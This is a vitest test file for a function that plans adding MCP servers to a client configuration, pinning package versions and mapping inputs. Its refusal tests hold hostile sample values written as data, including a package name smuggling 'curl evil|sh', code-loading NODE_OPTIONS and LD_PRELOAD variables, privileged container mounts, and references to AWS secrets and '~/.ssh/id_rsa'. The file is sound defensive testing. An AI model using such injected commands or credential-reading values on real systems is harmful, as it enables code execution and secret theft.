import { expect, it } from 'vitest'
import { planAddition, withAnswers } from './plan-addition.ts'
import { serverFromDocument } from '../server/server-document.ts'

const plan = (server: object, options: object = {}) =>
  planAddition(serverFromDocument({ name: 'io.example/weather', version: '1.0.0', ...server }, 'a file'), {
    engine: 'podman',
    ...options,
  })

const npm = (more: object = {}) => ({
  packages: [
    { registryType: 'npm', identifier: 'weather-mcp', version: '1.2.3', transport: { type: 'stdio' }, ...more },
  ],
})
const image = (identifier: string, more: object = {}) => ({
  packages: [{ registryType: 'oci', identifier, transport: { type: 'stdio' }, ...more }],
})

it.each([
  ['npm', npm(), ['npx', '-y', 'weather-mcp@1.2.3']],
  ['pypi', npm({ registryType: 'pypi', identifier: 'weather_mcp' }), ['uvx', 'weather_mcp==1.2.3']],
  [
    'a container image',
    image('images.example/owner/weather:1.2', { environmentVariables: [{ name: 'UNITS', value: 'si' }] }),
    ['podman', 'run', '-i', '--rm', '-e', 'UNITS', 'images.example/owner/weather:1.2'],
  ],
])('adding a server pins %s to one version', (_, server, words) => {
  const { entry } = plan(server)
  expect('command' in entry && [entry.command, ...entry.args]).toEqual(words)
})

it('adding a server asks for required and secret inputs, and uses defaults for the rest', () => {
  const { entry, inputs, optional } = plan(
    npm({
      environmentVariables: [
        { name: 'KEY', isRequired: true, isSecret: true, description: 'Your key' },
        { name: 'UNITS', isRequired: true, default: 'si' },
        { name: 'PROXY', isSecret: true },
      ],
      packageArguments: [
        { type: 'named', name: '--place', isRequired: true, choices: ['here', 'there'] },
        { type: 'positional', value: 'run' },
        { type: 'named', name: '--home', value: '{where}/data', variables: { where: { isRequired: true } } },
      ],
    }),
  )
  expect(entry).toMatchObject({
    args: [
      '-y',
      'weather-mcp@1.2.3',
      '--place',
      '${input:weather_place}',
      'run',
      '--home',
      '${input:weather_where}/data',
    ],
    env: { KEY: '${input:weather_KEY}', UNITS: 'si' },
  })
  expect(inputs.map(({ id, secret }) => [id, secret])).toEqual([
    ['weather_KEY', true],
    ['weather_place', false],
    ['weather_where', false],
  ])
  expect(optional).toEqual(['PROXY'])
  const filled = withAnswers(entry, new Map([['weather_place', 'here']]))
  expect(filled).toMatchObject({ args: expect.arrayContaining(['here', '${input:weather_where}/data']) as string[] })
})

it('adding a remote server fills its headers and addresses with inputs', () => {
  const { entry } = plan({
    remotes: [
      {
        type: 'streamable-http',
        url: 'https://{tenant}.weather.example/mcp',
        variables: { tenant: { isRequired: true } },
        headers: [{ name: 'Authorization', value: 'Bearer {key}', variables: { key: { isSecret: true } } }],
      },
    ],
  })
  expect(entry).toMatchObject({
    url: 'https://${input:weather_tenant}.weather.example/mcp',
    headers: { Authorization: 'Bearer ${input:weather_key}' },
  })
})

it('adding a server uses no variable of the user: a placeholder in what the publisher wrote is literal', () => {
  const { entry } = plan(
    npm({
      environmentVariables: [{ name: 'A', value: '${AWS_SECRET_ACCESS_KEY}' }],
      packageArguments: [
        { type: 'positional', value: '${file:~/.ssh/id_rsa}' },
        { type: 'named', name: '--x', default: '${HOME}', isRequired: true },
      ],
    }),
  )
  expect(entry).toMatchObject({
    env: { A: '${$}{AWS_SECRET_ACCESS_KEY}' },
    args: ['-y', 'weather-mcp@1.2.3', '${$}{file:~/.ssh/id_rsa}', '--x', '${$}{HOME}'],
  })
})

it.each([
  ['shell metacharacters in a package', npm({ identifier: 'weather;curl evil|sh' })],
  ['an option as a package', npm({ identifier: '--call=evil' })],
  ['an address as a package', npm({ identifier: 'https://evil.example/x.tgz' })],
  ['a range of versions', npm({ version: '^1.0.0' })],
  ['the newest version', npm({ version: 'latest' })],
  ['no version', npm({ version: undefined })],
  ['an option of the runner', npm({ runtimeArguments: [{ type: 'named', name: '-c', value: 'evil' }] })],
  ['a variable that loads code', npm({ environmentVariables: [{ name: 'NODE_OPTIONS', value: '-r evil' }] })],
  [
    'a variable that loads code, in lower case',
    npm({ environmentVariables: [{ name: 'node_options', value: '-r evil' }] }),
  ],
  [
    'a variable that loads code, in mixed case',
    image('i.example/o/w:1', { environmentVariables: [{ name: 'Ld_Preload' }] }),
  ],
  ['a variable with a = in it', npm({ environmentVariables: [{ name: 'A=B', value: 'x' }] })],
  ['an image without a version', image('images.example/owner/weather')],
  ['the newest image', image('images.example/owner/weather:latest')],
  ['an option as an image', image('--privileged')],
  ['a privileged container', image('i.example/o/w:1', { runtimeArguments: [{ type: 'named', name: '--privileged' }] })],
  [
    'a folder of the host',
    image('i.example/o/w:1', { runtimeArguments: [{ type: 'named', name: '-v', value: '/:/host' }] }),
  ],
  ['an unencrypted address', { remotes: [{ type: 'sse', url: 'http://weather.example' }] }],
  [
    'a header with a line break',
    { remotes: [{ type: 'sse', url: 'https://w.example', headers: [{ name: 'A\r\nB' }] }] },
  ],
  ['neither a package nor an address', {}],
  ['a kind that is not known', npm({ registryType: 'nuget' })],
])('adding a server is refused for %s', (_, server) => {
  expect(() => plan(server)).toThrow(/^This server cannot be added: /)
})

it.each(['__proto__', ' ', 'a\nb'])('adding a server is refused under the name %j, which no entry can have', (name) => {
  expect(() => plan(npm(), { name })).toThrow(/its name cannot be the name of an entry/)
  expect(() => plan({ ...npm(), name: 'io.example/__proto__' })).toThrow(/its name cannot be the name of an entry/)
})

it('adding a server warns that a package is one letter away from a popular one', () => {
  const { warnings } = plan(npm({ identifier: '@playwrigth/mcp' }))
  expect(warnings[0]).toBe('The package @playwrigth/mcp is not @playwright/mcp, which its name resembles.')
  expect(plan(npm({ identifier: '@playwright/mcp' })).warnings.join()).not.toContain('resembles')
})
